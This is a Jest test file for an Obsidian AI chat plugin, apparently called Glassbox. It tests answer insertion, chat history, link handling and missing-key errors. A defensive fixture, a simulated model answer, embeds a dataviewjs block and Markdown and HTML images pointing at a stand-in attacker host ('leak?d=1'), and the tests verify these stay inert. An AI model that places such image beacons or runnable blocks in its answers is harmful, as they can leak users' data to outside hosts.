import { act, within } from '@testing-library/react/pure';
import GlassboxPlugin from '../../src/main';
import type { ChatView } from '../../src/obsidian/chat/chat-view';
import { clearPluginRuns, createFakeApp, FakeDataviewPlugin, pluginRuns, renderReadingView, type App, type MarkdownView } from '../../tools/fake-obsidian';
import { scenario, startModelServer, type ModelServer } from '../../tools/model-server';
import manifestJson from '../../manifest.json';
import { callsSettled } from '../support/calls-settled';
import { sendMessage, until } from '../support/chat-view-harness';
import { vaultToolsOf } from '../support/plugin-vault-tools';

let server: ModelServer | null = null;
afterEach(async () => {
  await server?.close();
  server = null;
});

// What the chat shows inert (docs/decisions/inert-answer-code.md): code Dataview runs, raw HTML, a remote image.
const RISKY_ANSWER = 'Refunds take **14 days**, see [[Refund policy]].\n\n```dataviewjs\ndv.paragraph("hi")\n```\n\n<img src="https://attacker.example/raw.png"> ![chart](https://attacker.example/leak?d=1)';

async function loadWithServer() {
  server = await startModelServer({
    scenarios: { cite: scenario().turn((t) => t.reasoning('Thinking about refunds.').text('Refunds take **14 days**, see [[Refund policy]].')), risky: scenario().turn((t) => t.text(RISKY_ANSWER)) },
  });
  const app = createFakeApp({ rawHtml: true });
  await app.vault.adapter.write(`${app.vault.configDir}/plugins/${manifestJson.id}/data.json`, JSON.stringify({ provider: 'custom', baseUrl: server.url, model: 'cite', apiKeySecretName: '' }));
  const plugin = await app.loadPlugin(GlassboxPlugin, manifestJson);
  const command = (id: string) => app.commands.commands[`glassbox:${id}`];
  return { app, plugin, command };
}

/** `Draft.md` open in an editor of the main area. */
async function openDraft(app: App, text: string) {
  const file = await app.vault.create('Draft.md', text);
  const leaf = app.workspace.getLeaf(false);
  await act(async () => leaf.openFile(file, { active: true }));
  const view = leaf.view as MarkdownView;
  return { leaf, view, editor: view.editor };
}

/** Opens the chat, asks `question` of `model` (the settings' by default) and waits for the answer. */
async function askInChat(app: App, question: string, model?: string): Promise<ChatView> {
  await act(async () => {
    app.commands.executeCommandById('glassbox:open-chat');
    await Promise.resolve();
  });
  const view = app.workspace.getLeavesOfType('glassbox-chat')[0].view as unknown as ChatView;
  if (model !== undefined) act(() => view.controller.configureNextRun({ model }));
  await sendMessage(view.contentEl, question);
  await until(() => !view.controller.store.getState().running && view.controller.lastAnswer() !== null);
  return view;
}

describe('plugin commands', () => {
  it('insert last answer puts the answer, markers stripped, at the cursor; stop only applies to a running answer; new chat empties the view', async () => {
    const { app, plugin, command } = await loadWithServer();
    const draft = await openDraft(app, 'Line one\nLine two');
    expect(command('insert-last-answer').editorCheckCallback!(true, draft.editor as never, draft.view as never)).toBe(false);
    const view = await askInChat(app, 'How long do refunds take?');
    expect(command('stop').checkCallback!(true)).toBe(false);

    draft.editor.setCursor({ line: 0, ch: 8 });
    await act(async () => {
      await app.workspace.revealLeaf(draft.leaf);
      expect(app.commands.executeCommandById('glassbox:insert-last-answer')).toBe(true);
    });
    // A paragraph of its own (issue 38 item 9: glued to the line above, it read as one paragraph with it).
    expect(draft.editor.getValue()).toBe('Line one\n\nRefunds take **14 days**, see [[Refund policy]].\n\nLine two');

    await act(async () => {
      app.commands.executeCommandById('glassbox:new-chat');
      await Promise.resolve();
    });
    expect(view.contentEl.querySelector('[data-testid="chat-empty"]')).not.toBeNull();
    // The message roots are released a microtask after the render that dropped their messages.
    await act(async () => {});
    expect(view.roots.live).toBe(0);
    await act(async () => plugin.unload());
  });

  it('insert last answer inserts it as the chat shows it (nothing runs in the note, links stay), after the selection, never in the properties, the cursor after it, and undo takes it back', async () => {
    const { app, plugin } = await loadWithServer();
    await app.loadPlugin(FakeDataviewPlugin, { id: 'dataview', name: 'Dataview', version: '0.5.68' } as never);
    clearPluginRuns();
    const note = '---\ntags: [draft]\n---\nLine one\nLine two';
    const draft = await openDraft(app, note);
    const view = await askInChat(app, 'How long do refunds take?', 'risky');
    const insert = async () => {
      await act(async () => {
        await app.workspace.revealLeaf(draft.leaf);
        expect(app.commands.executeCommandById('glassbox:insert-last-answer')).toBe(true);
      });
    };
    // "Line one" selected: it stays, the answer follows it.
    draft.editor.setSelection({ line: 3, ch: 0 }, { line: 3, ch: 8 });
    await insert();
    const text = draft.editor.getValue();
    expect(text.startsWith('---\ntags: [draft]\n---\nLine one\n\nRefunds take **14 days**, see [[Refund policy]].\n\n```')).toBe(true);
    expect(text.endsWith('leak?d=1)\n\nLine two')).toBe(true);
    // The cursor is after the answer, ready to write on.
    expect(draft.editor.posToOffset(draft.editor.getCursor())).toBe(text.length - '\n\nLine two'.length);
    // It reads as the chat showed it: the zero-width spaces are the only difference.
    expect(text.replace(/\u200b/g, '')).toBe(`---\ntags: [draft]\n---\nLine one\n\n${view.controller.lastAnswer()}\n\nLine two`);
    const el = document.body.createDiv();
    await renderReadingView(app, { path: 'Draft.md', el });
    expect(pluginRuns).toEqual([]);
    expect(el.querySelectorAll('img[src^="https://attacker.example"]')).toHaveLength(0);
    expect(el.querySelector('a.internal-link')?.getAttribute('data-href')).toBe('Refund policy');

    await act(async () => {
      app.commands.executeCommandById('glassbox:undo-last-change');
      await until(() => draft.editor.getValue() === note);
    });
    // A cursor in the properties puts it after them, on lines of its own.
    draft.editor.setCursor({ line: 1, ch: 3 });
    await insert();
    expect(draft.editor.getValue().startsWith('---\ntags: [draft]\n---\nRefunds take')).toBe(true);
    expect(draft.editor.getValue().endsWith('leak?d=1)\n\nLine one\nLine two')).toBe(true);
    el.remove();
    await act(async () => plugin.unload());
  });

  it('finds a chat leaf Obsidian restored deferred: commands do not take the placeholder for the chat, and opening loads it', async () => {
    const app = createFakeApp({ layoutReady: false });
    await app.vault.adapter.write(`${app.vault.configDir}/plugins/${manifestJson.id}/data.json`, JSON.stringify({ provider: 'custom', baseUrl: 'http://127.0.0.1:9/v1' }));
    const plugin = await app.loadPlugin(GlassboxPlugin, manifestJson);
    const leaf = app.workspace.restoreDeferredLeaf('right', { type: 'glassbox-chat' });
    app.workspace.setLayoutReady();
    expect(leaf.isDeferred).toBe(true);
    expect(app.commands.commands['glassbox:stop'].checkCallback!(true)).toBe(false);
    const activated = jest.spyOn(plugin.chat!, 'activate');
    await act(async () => {
      app.commands.executeCommandById('glassbox:new-chat');
      await callsSettled(activated);
    });
    expect(activated).toHaveBeenCalledTimes(1);
    expect(leaf.isDeferred).toBe(false);
    expect(app.workspace.getLeavesOfType('glassbox-chat')).toEqual([leaf]);
    expect(leaf.view.getViewType()).toBe('glassbox-chat');
    expect(leaf.view.containerEl.querySelector('[data-testid="chat-empty"]')).not.toBeNull();
    await act(async () => plugin.unload());
  });

  it('on a second device (data.json synced, the secret not), says the key is not set here before any request, with a button to the settings', async () => {
    const first = createFakeApp();
    first.secretStorage.setSecret('glassbox-api-key', 'sk-first-device');
    await first.vault.adapter.write(`${first.vault.configDir}/plugins/${manifestJson.id}/data.json`, JSON.stringify({ provider: 'openai', baseUrl: 'https://api.openai.invalid/v1', model: 'gpt-4o-mini', apiKeySecretName: 'glassbox-api-key' }));
    const second = createFakeApp({ syncedFrom: first });
    expect(second.secretStorage.getSecret('glassbox-api-key')).toBeNull();
    const sent = jest.spyOn(window, 'fetch');
    const plugin = await second.loadPlugin(GlassboxPlugin, manifestJson);
    expect(plugin.settings.apiKeySecretName).toBe('glassbox-api-key');
    await act(async () => {
      await plugin.activateChatView();
    });
    const view = second.workspace.getLeavesOfType('glassbox-chat')[0].view as unknown as ChatView;
    await sendMessage(view.contentEl, 'How long do refunds take?');
    await until(() => !view.controller.store.getState().running);
    const error = view.contentEl.querySelector('[data-testid="chat-error"]')!;
    expect(error.textContent).toContain("The API key 'glassbox-api-key' is not set on this device.");
    expect(sent.mock.calls.filter(([input]) => String(input instanceof Request ? input.url : input).includes('/chat/completions'))).toEqual([]);
    sent.mockRestore();
    await act(async () => {
      within(error as HTMLElement).getByRole('button', { name: 'Open settings' }).click();
    });
    expect(second.setting.isOpen).toBe(true);
    expect(second.setting.activeTab).toBe(second.setting.pluginTabs[0]);
    await act(async () => plugin.unload());
  });

  it('links in an answer: Ctrl-click and middle-click open a new tab, a plain click the current one, hovering shows the page preview', async () => {
    const { app, plugin } = await loadWithServer();
    await act(async () => {
      await plugin.activateChatView();
    });
    const view = app.workspace.getLeavesOfType('glassbox-chat')[0].view as unknown as ChatView;
    await sendMessage(view.contentEl, 'How long do refunds take?');
    await until(() => !view.controller.store.getState().running && view.contentEl.querySelector('a.internal-link') !== null);
    const link = view.contentEl.querySelector<HTMLElement>('a.internal-link')!;
    await act(async () => {
      link.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true, ctrlKey: true }));
      link.dispatchEvent(new MouseEvent('auxclick', { bubbles: true, cancelable: true, button: 1 }));
      link.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
    });
    expect(app.workspace.openedLinks.map((opened) => [opened.linktext, opened.newLeaf])).toEqual([
      ['Refund policy', 'tab'],
      ['Refund policy', 'tab'],
      ['Refund policy', false],
    ]);
    link.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
    expect(app.pagePreviews.map((preview) => [preview.linktext, preview.source, preview.targetEl === link])).toEqual([['Refund policy', 'glassbox-chat', true]]);
    await act(async () => plugin.unload());
  });

  it('saves each turn as a note and reopens it from the history with the block folded', async () => {
    const { app, plugin } = await loadWithServer();
    await act(async () => {
      await plugin.activateChatView();
    });
    const view = app.workspace.getLeavesOfType('glassbox-chat')[0].view as unknown as ChatView;
    await sendMessage(view.contentEl, 'How long do refunds take?');
    await until(() => !view.controller.store.getState().running && view.notePath !== '');
    const note = await app.vault.read(app.vault.getFileByPath(view.notePath)!);
    expect(note).toContain('REASONING_BLOCK');
    expect(note).toContain('Refunds take **14 days**');

    await act(async () => {
      view.controller.newChat();
      await Promise.resolve();
    });
    await act(async () => {
      view.contentEl.querySelector<HTMLElement>('[data-testid="history-toggle"]')!.click();
    });
    await until(() => view.contentEl.querySelector('[data-testid="history-item"]') !== null);
    expect(view.contentEl.querySelector('[data-testid="history-title"]')!.textContent).toContain('refunds');
    await act(async () => {
      view.contentEl.querySelector<HTMLElement>('[data-testid="history-item"]')!.click();
    });
    await until(() => view.contentEl.querySelector('[data-testid="reasoning-block"]') !== null);
    const block = view.contentEl.querySelector<HTMLElement>('[data-testid="reasoning-block"]')!;
    expect(block.dataset.live).toBe('false');
    expect(block.querySelector('[data-testid="reasoning-label"]')!.textContent).toMatch(/^Thought for /);
    expect(block.querySelector<HTMLElement>('[data-testid="reasoning-content"]')!.hidden).toBe(true);
    expect(view.contentEl.querySelector('[data-testid="message-user"]')!.textContent).toBe('How long do refunds take?');
    await act(async () => plugin.unload());
  });

  it('runs the real vault tools over an index of the vault, without the saved conversations', async () => {
    server = await startModelServer({
      scenarios: {
        search: scenario()
          .turn((t) => t.toolCall('localSearch', { query: 'refunds' }))
          .turn((t) => t.text('Refunds take 14 days, see [[Refund policy]].')),
      },
    });
    const app = createFakeApp({ files: { 'Refund policy.md': '# Refund policy\n\nRefunds take 14 days after the request.', 'Billing.md': '# Billing\n\nInvoices go out monthly.' } });
    await app.vault.adapter.write(`${app.vault.configDir}/plugins/${manifestJson.id}/data.json`, JSON.stringify({ provider: 'custom', baseUrl: server.url, model: 'search', apiKeySecretName: '' }));
    const plugin = await app.loadPlugin(GlassboxPlugin, manifestJson);
    const tools = vaultToolsOf(plugin);
    await until(() => tools.current().notice === undefined);
    await act(async () => {
      await plugin.activateChatView();
    });
    const view = app.workspace.getLeavesOfType('glassbox-chat')[0].view as unknown as ChatView;
    for (const round of [1, 2]) {
      await sendMessage(view.contentEl, 'How long do refunds take?');
      await until(() => !view.controller.store.getState().running && view.notePath !== '' && view.contentEl.querySelectorAll('[data-testid="message-assistant"]').length === round);
    }
    const toolResults = server.requests
      .flatMap((request) => request.body?.messages ?? [])
      .filter((message) => message.role === 'tool')
      .map((message) => JSON.stringify(message));
    expect(toolResults.length).toBeGreaterThanOrEqual(2);
    for (const result of toolResults) {
      expect(result).toContain('Refund policy');
      expect(result).not.toContain('Glassbox/Conversations');
    }
    expect(view.contentEl.querySelector('[data-tool-status="ok"]')).not.toBeNull();
    await act(async () => plugin.unload());
  });
});
